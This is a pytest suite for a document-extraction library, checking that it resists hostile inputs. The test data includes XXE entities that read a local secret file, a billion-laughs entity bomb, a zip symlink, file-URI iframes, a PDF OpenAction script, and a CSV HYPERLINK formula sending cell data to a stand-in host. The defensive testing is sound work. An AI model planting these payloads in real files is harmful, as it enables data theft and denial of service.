"""Files that somebody made to harm whoever reads them."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from tests.documents.shapes import office, pdf, texts
from tests.documents.shapes.held import sorted_out
from tumen.documents.errors import RefusedFile
from tumen.documents.intake import extract, limits
from tumen.documents.intake.containers.feed import members_of as entries_of
from tumen.documents.intake.containers.zipped import members_of
from tumen.documents.intake.entry import RSS_ITEM
from tumen.documents.intake.hints import Hints

WORDS = "On 9 October 2023 the council said that 60 people were returned. "


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("the hidden word")
    return path


def read(data: bytes, name: str = "x") -> str:
    try:
        return extract(data, name=name).text
    except RefusedFile as refused:
        return refused.reason


def with_entity(data: bytes, part: str, old: str, secret: Path) -> bytes:
    """An office file whose part names another file by an entity."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    whole = parts[part].decode()
    body = whole.partition("?>")[2] if whole.startswith("<?xml") else whole
    assert old in body
    told = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    parts[part] = (told + body.replace(old, "&x;", 1)).encode()
    return office.packed(parts)


class TestEntities:
    """XML that asks for another file, or unfolds without an end."""

    def test_a_word_file_gets_nothing(self, secret: Path) -> None:
        data = office.docx(["MARK", WORDS])
        assert "hidden word" not in read(with_entity(data, "word/document.xml", "MARK", secret))

    def test_a_workbook_gets_nothing(self, secret: Path) -> None:
        data = office.xlsx({"a": [("note", "number"), ("MARK", 50)]})
        part = "xl/worksheets/sheet1.xml"
        assert "hidden word" not in read(with_entity(data, part, "MARK", secret))

    def test_a_feed_gets_nothing(self, secret: Path) -> None:
        feed = (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{secret.as_uri()}">]><rss version="2.0">'
            f"<channel><item><title>&x;</title><description>{WORDS * 5}</description></item></channel></rss>"
        ).encode()
        taken = sorted_out(entries_of(io.BytesIO(feed), len(feed)))
        assert (taken.members, taken.read) == ([], [])
        (refused,) = taken.refused
        assert "no sound XML" in refused.reason
        assert "hidden word" not in repr(taken)


class TestReaches:
    """Files that ask for another one by their own means."""

    def test_a_message_with_its_body_elsewhere(self, secret: Path) -> None:
        message = (
            "From: a@reed.example\nTo: b@reed.example\nSubject: x\nMIME-Version: 1.0\n"
            f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\n\n'
            "Content-Type: text/plain\n\n"
        )
        assert "hidden word" not in read(message.encode(), "x.eml")

    def test_a_page_that_frames_a_file(self, secret: Path) -> None:
        frames = f'<iframe src="{secret.as_uri()}"></iframe><object data="{secret.as_uri()}"></object>'
        page = texts.page().replace("<body>", f"<body>{frames}<script>document.write('hidden word')</script>")
        assert frames in page
        assert "hidden word" not in read(page.encode())

    def test_a_link_in_an_archive(self, secret: Path) -> None:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            link = zipfile.ZipInfo("letter.txt")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, str(secret))
        data = made.getvalue()
        held = sorted_out(members_of(io.BytesIO(data), len(data)))
        assert b"hidden word" not in b"".join(member.data for member in held.members)


class TestActs:
    """Files that would do something in the program that made them."""

    def test_a_pdf_with_a_script_is_its_text(self) -> None:
        made = pdf.pdf([pdf.paragraphs(texts.PARAGRAPHS)])
        action = b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://reed.example')) >>"
        changed = made.replace(b"/Type /Catalog", b"/Type /Catalog " + action)
        assert changed != made
        assert "launchURL" not in read(changed)

    def test_a_formula_is_the_text_that_it_is(self) -> None:
        formula = '=HYPERLINK("http://reed.example/"&A1)'
        rows = f"date;number;note\n2021-07-14;50;{formula}\n2021-07-15;51;x\n"
        assert "=HYPERLINK" in read(rows.encode(), "list.csv")

    def test_a_workbooks_formula_is_not_computed(self) -> None:
        data = office.xlsx({"a": [("note", "number"), ("=1+1", 50), ("told", 51)]})
        assert "50" in read(data)


class TestPages:
    """Pages and texts that were made to crash, fill or stall whoever parses them."""

    STORY = f"<p>{WORDS}</p>" * 5

    def page(self, made: str) -> bytes:
        return f"<!doctype html><title>x</title><body>{self.STORY}{made}</body>".encode()

    def test_tags_in_each_other_without_an_end(self) -> None:
        assert WORDS.strip() in read(self.page("<div>" * 50_000))

    def test_a_huge_attribute(self) -> None:
        assert WORDS.strip() in read(self.page(f'<p class="{"a" * 5_000_000}">x</p>'))

    def test_letters_that_are_none(self) -> None:
        assert WORDS.strip() in read(self.page("&#xD800;&#0;&#x110000;" * 500))

    def test_an_entity_that_unfolds_without_an_end(self) -> None:
        laughs = "".join(
            f'<!ENTITY {name} "{f"&{of};" * 20}">' for of, name in zip("abcdefgh", "bcdefghi", strict=True)
        )
        declared = f'<?xml version="1.0"?><!DOCTYPE item [<!ENTITY a "{"ha" * 500}">{laughs}]>'
        entry = f"{declared}<item><title>&i;</title><description>x</description></item>".encode()
        with pytest.raises(RefusedFile, match="no sound XML"):
            extract(entry, name="x", hints=Hints(media_type=RSS_ITEM))

    def test_a_line_of_100_megabytes(self) -> None:
        assert "files are read up to 50 MB" in read(b"a" * 100_000_000)

    def test_a_line_over_what_a_text_may_hold(self) -> None:
        assert "more than 10,000,000 characters" in read(b"a " * 5_500_000)

    def test_a_page_that_would_take_for_ever(self, monkeypatch: pytest.MonkeyPatch) -> None:
        attributes = " ".join(f'a{number}=""' for number in range(100_000))
        with monkeypatch.context() as short:
            short.setattr(limits, "CONFINED_SECONDS", 1)
            assert "took more than 1 seconds" in read(self.page(f"<p {attributes}>x</p>"))
        assert WORDS.strip() in read(self.page(""))
